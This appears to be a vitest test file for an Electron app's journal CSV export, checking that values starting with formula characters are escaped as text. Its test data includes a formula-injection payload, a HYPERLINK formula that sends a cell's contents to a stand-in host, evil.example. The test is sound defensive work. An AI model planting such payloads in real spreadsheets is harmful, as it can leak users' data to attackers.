import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { csvColumns } from '../../../../electron/services/reports/export';
import { toCsv } from '../../../../electron/services/reports/export';
import type { JournalRecord } from '../../../../electron/services/journal/journal';

const record = (seq: number, type: string, saleId: string, data: unknown): JournalRecord => ({
  v: 1,
  seq,
  at: `2025-03-01T08:00:0${seq}.000Z`,
  type,
  saleId,
  data,
  prev: '0'.repeat(64),
  hash: String(seq).repeat(64),
});

function cells(csv: string): Record<(typeof csvColumns)[number], string>[] {
  return Papa.parse<Record<(typeof csvColumns)[number], string>>(csv, { header: true, skipEmptyLines: true }).data;
}

describe('the journal CSV export in a spreadsheet', () => {
  const hostile = ['=HYPERLINK("https://evil.example/?d="&A1,"Refund")', '+1', '@x', '-2+3'];

  it.each(hostile)('keeps %s as text, never a formula, wherever a text cell starts with it', (text) => {
    // A hand-edited journal can put anything in a sale's order reference or provider; a product name
    // sits inside the record's JSON data.
    const created = record(1, 'sale-created', text, {
      number: 7,
      orderReference: text,
      provider: text,
      demo: false,
      currency: 'SEK',
      amountMinor: 1250,
      lines: [{ name: text, quantity: 1 }],
    });
    const [row] = cells(toCsv([created], [created]));
    for (const column of ['saleId', 'orderReference', 'provider'] as const) expect(row![column]).toBe(`'${text}`);
    for (const value of Object.values(row!)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    expect(JSON.parse(row!.data)).toMatchObject({ lines: [{ name: text }] });
  });

  it('leaves numbers and ordinary text as they are', () => {
    const created = record(1, 'sale-created', 'sale-1', {
      number: 7,
      orderReference: 'LP-0007',
      provider: 'ecster',
      demo: true,
      currency: 'SEK',
      amountMinor: 1250,
    });
    const [row] = cells(toCsv([created], [created]));
    expect(row).toMatchObject({
      seq: '1',
      saleNumber: '7',
      orderReference: 'LP-0007',
      provider: 'ecster',
      amount: '12.50',
      amountMinor: '1250',
    });
  });
});
